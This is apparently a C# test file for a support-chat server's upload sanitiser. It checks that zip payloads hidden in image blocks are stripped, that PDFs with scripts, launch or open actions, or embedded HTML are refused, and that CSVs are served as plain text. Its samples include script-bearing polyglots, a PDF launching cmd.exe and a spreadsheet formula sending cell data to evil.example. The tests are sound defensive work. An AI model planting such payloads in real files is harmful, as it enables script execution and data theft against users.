using System.Buffers.Binary;
using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json;

namespace SupportChat.Server.Tests;

/// <summary>
/// What a picture keeps is an allow-list per format, so a second file riding in a block no decoder reads is
/// dropped, and a PDF that acts (scripts, actions on opening, embedded files) or is a web page is refused.
/// </summary>
public sealed class FilePolyglotTests(ServerFactory server) : IClassFixture<ServerFactory>
{
    private static readonly byte[] Zip = [0x50, 0x4B, 0x03, 0x04, 0x14, 0, 0, 0, 0, 0, .. Encoding.ASCII.GetBytes("payload.html<script>alert(1)</script>")];

    /// <summary>The bytes the server keeps of an upload, read back through its link.</summary>
    private async Task<byte[]> StoredAsync(byte[] content, string name)
    {
        var visitor = await server.NewVisitor();
        var uploaded = await server.ClientWith(visitor.Token).PostAsync($"/chats/{visitor.GroupId}/files", FileSamples.Form(content, name, "application/octet-stream"));
        Assert.Equal(HttpStatusCode.Created, uploaded.StatusCode);
        var url = JsonDocument.Parse(await uploaded.Content.ReadAsStringAsync()).RootElement.GetProperty("url").GetString()!;
        return await server.ClientWith(null).GetByteArrayAsync(url);
    }

    private async Task<string> RefusalAsync(byte[] content, string name)
    {
        var visitor = await server.NewVisitor();
        var refused = await server.ClientWith(visitor.Token).PostAsync($"/chats/{visitor.GroupId}/files", FileSamples.Form(content, name, "application/pdf"));
        Assert.Equal(HttpStatusCode.UnsupportedMediaType, refused.StatusCode);
        return JsonDocument.Parse(await refused.Content.ReadAsStringAsync()).RootElement.GetProperty("detail").GetString()!;
    }

    [Fact]
    public async Task A_zip_in_a_JPEG_JPG1_segment_is_dropped_and_the_picture_kept()
    {
        Assert.Equal(FileSamples.Jpeg, await StoredAsync(FileSamples.JpegWithSegment(0xF1, Zip), "photo.jpg"));
    }

    [Fact]
    public async Task A_JFIF_thumbnail_is_dropped_and_its_header_kept()
    {
        byte[] header = [.. "JFIF\0"u8, 1, 2, 0, 0, 1, 0, 1];
        var stored = await StoredAsync(FileSamples.JpegWithSegment(0xE0, [.. header, 2, 1, .. Zip[..6]]), "photo.jpg");
        Assert.Equal(FileSamples.Concat(FileSamples.Jpeg[..2], [0xFF, 0xE0, 0, 16], header, [0, 0], FileSamples.Jpeg[2..]), stored);
    }

    [Fact]
    public async Task A_GIF_keeps_its_loop_count_and_drops_any_other_application_block()
    {
        // After the 13-byte header and the sample's two-colour table.
        byte[] loop = [0x21, 0xFF, 11, .. "NETSCAPE2.0"u8, 3, 1, 0, 0, 0];
        byte[] other = [0x21, 0xFF, 11, .. "ZIPSTORE1.0"u8, (byte)Zip.Length, .. Zip, 0];
        byte[] longLoop = [0x21, 0xFF, 11, .. "NETSCAPE2.0"u8, 3, 1, 0, 0, (byte)Zip.Length, .. Zip, 0];
        var gif = FileSamples.Gif;
        Assert.Equal(FileSamples.Concat(gif[..19], loop, gif[19..]), await StoredAsync(FileSamples.Concat(gif[..19], loop, other, longLoop, gif[19..]), "anim.gif"));
    }

    [Fact]
    public async Task A_WebP_chunk_of_an_unknown_kind_is_dropped_and_the_RIFF_size_made_right()
    {
        var chunk = new byte[8 + Zip.Length + (Zip.Length & 1)];
        Encoding.ASCII.GetBytes("ZIPS").CopyTo(chunk, 0);
        BinaryPrimitives.WriteUInt32LittleEndian(chunk.AsSpan(4), (uint)Zip.Length);
        Zip.CopyTo(chunk, 8);
        var webp = FileSamples.Concat(FileSamples.WebP, chunk);
        BinaryPrimitives.WriteUInt32LittleEndian(webp.AsSpan(4), (uint)(webp.Length - 8));
        Assert.Equal(FileSamples.WebP, await StoredAsync(webp, "pic.webp"));
    }

    /// <summary>The sample JPEG's sRGB profile: a real one.</summary>
    private static byte[] Profile()
    {
        var at = FileSamples.Jpeg.AsSpan().IndexOf("ICC_PROFILE\0"u8) + 14;
        return FileSamples.Jpeg[at..(at + (int)BinaryPrimitives.ReadUInt32BigEndian(FileSamples.Jpeg.AsSpan(at)))];
    }

    private static byte[] Deflated(byte[] data)
    {
        using var output = new MemoryStream();
        using (var zlib = new ZLibStream(output, CompressionLevel.Optimal)) zlib.Write(data);
        return output.ToArray();
    }

    [Fact]
    public async Task A_PNG_colour_profile_is_kept_when_it_is_one_and_dropped_when_it_is_anything_else()
    {
        var real = FileSamples.PngWithChunk("iCCP", [.. "ICC\0\0"u8, .. Deflated(Profile())]);
        Assert.Equal(real, await StoredAsync(real, "shot.png"));

        byte[] gps = [.. "ICC\0\0"u8, .. Encoding.ASCII.GetBytes("GPS 52.37N 4.89E "), .. Zip];
        byte[] notAProfile = [.. "ICC\0\0"u8, .. Deflated(Encoding.ASCII.GetBytes(new string('x', 200)))];
        byte[] tail = [.. "ICC\0\0"u8, .. Deflated(Profile()), .. Zip];
        foreach (var junk in new[] { gps, notAProfile, tail })
        {
            Assert.Equal(FileSamples.Png, await StoredAsync(FileSamples.PngWithChunk("iCCP", junk), "shot.png"));
        }
    }

    public static TheoryData<string, string> ActivePdfs => new()
    {
        { "/JavaScript", "1 0 obj<</Type/Catalog/Pages 2 0 R/Names<</JavaScript 4 0 R>>>>endobj\n" },
        { "/JS", "4 0 obj<</JS(app.alert(1))>>endobj\n" },
        { "/JS", "4 0 obj<</J#53(app.alert(1))>>endobj\n" },
        { "/Launch", "4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n" },
        { "/EmbeddedFile", "4 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream endobj\n" },
        { "/OpenAction", "1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n" },
        { "/AA", "3 0 obj<</Type/Page/AA<</O 4 0 R>>>>endobj\n" },
    };

    [Theory]
    [MemberData(nameof(ActivePdfs))]
    public async Task A_PDF_that_acts_is_refused_with_a_sentence_naming_what(string name, string obj)
    {
        var pdf = Encoding.ASCII.GetBytes(Encoding.ASCII.GetString(FileSamples.Pdf).Replace("trailer", obj + "trailer", StringComparison.Ordinal));
        Assert.Contains($"The PDF holds {name}", await RefusalAsync(pdf, "invoice.pdf"));
    }

    [Fact]
    public async Task A_PDF_that_is_a_web_page_is_refused()
    {
        var pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n<HTML><body><script>alert(document.domain)</script></body></HTML>\n%%EOF\n");
        Assert.Contains("holds a web page", await RefusalAsync(pdf, "invoice.pdf"));
    }
}

/// <summary>A text file is served as text, under a .txt name, whatever it was called: a .csv would open in a spreadsheet that runs its formulas.</summary>
public sealed class TextFileServingTests(ServerFactory server) : IClassFixture<ServerFactory>
{
    [Fact]
    public async Task A_CSV_with_a_formula_is_served_as_plain_text_under_a_txt_name()
    {
        var visitor = await server.NewVisitor();
        var csv = Encoding.UTF8.GetBytes("order,total\n1,=HYPERLINK(\"https://evil.example/?\"&A1,\"refund\")\n");
        var uploaded = await server.ClientWith(visitor.Token).PostAsync($"/chats/{visitor.GroupId}/files", FileSamples.Form(csv, "order-export.csv", "text/csv"));
        var record = JsonDocument.Parse(await uploaded.Content.ReadAsStringAsync()).RootElement;
        Assert.Equal("order-export.csv.txt", record.GetProperty("name").GetString());

        var served = await server.ClientWith(null).GetAsync(record.GetProperty("url").GetString());
        Assert.Equal("text/plain; charset=utf-8", served.Content.Headers.ContentType!.ToString());
        Assert.Equal("attachment", served.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("order-export.csv.txt", served.Content.Headers.ContentDisposition.FileNameStar);
    }
}
